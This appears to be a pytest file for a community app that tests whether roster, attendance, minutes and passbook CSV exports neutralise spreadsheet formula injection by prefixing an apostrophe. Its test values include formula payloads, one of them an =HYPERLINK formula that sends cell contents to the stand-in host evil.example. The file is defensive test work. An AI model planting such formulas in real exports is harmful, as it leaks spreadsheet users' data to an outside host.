"""Every CSV export writes formula-looking text as text (issue 10, item 8): one writer for all of them."""
import csv
import io
import subprocess
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import update

from civic.accounts.models import User
from civic.core.clock import utcnow
from civic.core.csvfile import csv_text, safe_cell
from civic.deliberation import service as delib
from civic.extensions import db
from civic.ledger import service as ledger
from civic.patrols import shifts as patrol_shifts

HOSTILE = ["=1+2", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(A1:A9)", "+1+2", "-2+3",
           "\t=1+2", "\r=1+2", "＝1+2", "＠SUM(A1)", "＋1", "－1"]
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_every_formula_start(value):
    """A cell beginning with = + - @ tab CR or a full-width ＝＋－＠ is written behind an apostrophe."""
    assert safe_cell(value) == "'" + value
    row = next(csv.reader(io.StringIO(csv_text([[value]], bom=False))))
    assert row == ["'" + value]


def test_safe_cell_keeps_plain_text_and_numbers():
    """Ordinary text, numbers (also negative ones) and empty cells are written as they are."""
    assert safe_cell("刘阿姨") == "刘阿姨" and safe_cell("a=b") == "a=b"
    assert safe_cell(-15) == -15 and safe_cell(0) == 0 and safe_cell(None) == ""


def _rows(response):
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def _cells(rows):
    return [cell for row in rows for cell in row]


def _assert_neutralised(rows, planted):
    """Each planted value appears, behind an apostrophe, and no cell starts with a formula character."""
    cells = _cells(rows)
    for value in planted:
        assert "'" + value in cells, (value, rows)
    for cell in cells:
        assert cell[:1] not in set("=+-@\t\r＝＋－＠"), (cell, rows)


def test_roster_attendance_minutes_and_passbook_exports_are_neutralised(app, client, auth, world):
    """Names, titles, minutes and notes holding =1+2, =HYPERLINK(...) and @SUM(...) come out as text in the
    roster, attendance, minutes and passbook CSVs."""
    name, title, note = "=1+2", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(A1:A9)"
    with app.app_context():
        db.session.execute(update(User).where(User.id == world.resident.id).values(display_name=name))
        coordinator = db.session.get(User, world.coordinator.id)
        committee = db.session.get(User, world.committee.id)
        resident = db.session.get(User, world.resident.id)
        start = utcnow() + timedelta(hours=1)
        shift = patrol_shifts.create_shift(coordinator, world.a.id, title=title, starts_at=start,
                                           ends_at=start + timedelta(hours=2), capacity=5)
        patrol_shifts.sign_up(resident, world.a.id, shift.id)
        meeting = delib.create_meeting(committee, world.a.id, title=title, kind="council", place=note,
                                       starts_at=utcnow() - timedelta(minutes=5), ends_at=utcnow() + timedelta(hours=1),
                                       quorum_count=0, quorum_percent=0)
        delib.add_agenda_item(committee, world.a.id, meeting.id, note)
        delib.check_in_by_name(committee, world.a.id, meeting.id, resident.id)
        delib.record_minutes(committee, world.a.id, meeting.id, "=1+2")
        ledger.award(world.a.id, resident.id, 5, idempotency_key="export-test", memo=title)
        db.session.commit()
        shift_id, meeting_id = shift.id, meeting.id

    auth.login(phone=world.coordinator.phone)
    _assert_neutralised(_rows(client.get(f"/c/{world.a.id}/patrols/shifts/{shift_id}/roster.csv")), [name, title])
    auth.logout()
    auth.login()
    meeting_url = f"/c/{world.a.id}/deliberation/meetings/{meeting_id}"
    _assert_neutralised(_rows(client.get(meeting_url + "/attendance.csv")), [name])
    _assert_neutralised(_rows(client.get(meeting_url + "/minutes.csv")), [title, note, "=1+2"])
    auth.logout()
    auth.login(phone=world.resident.phone)
    _assert_neutralised(_rows(client.get("/points/passbook.csv")), [title])


def test_no_csv_writer_outside_the_one_helper():
    """`csv.writer` appears only in civic/core/csvfile.py, so a new export cannot forget the escaping."""
    found = subprocess.run(["grep", "-rln", "csv.writer\\|csv.DictWriter", "civic"], cwd=ROOT,
                           capture_output=True, text=True).stdout.split()
    assert found == ["civic/core/csvfile.py"], found
